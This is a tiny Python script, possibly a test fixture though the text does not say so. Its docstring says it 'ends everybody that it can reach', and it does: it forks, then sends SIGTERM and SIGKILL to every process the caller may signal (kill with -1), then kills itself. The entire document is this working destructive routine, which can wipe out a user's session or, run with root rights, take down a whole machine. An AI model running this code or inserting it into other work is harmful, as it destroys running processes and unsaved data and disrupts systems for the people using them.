"""Ends everybody that it can reach."""
import os, signal

os.fork()
os.kill(-1, signal.SIGTERM)
os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
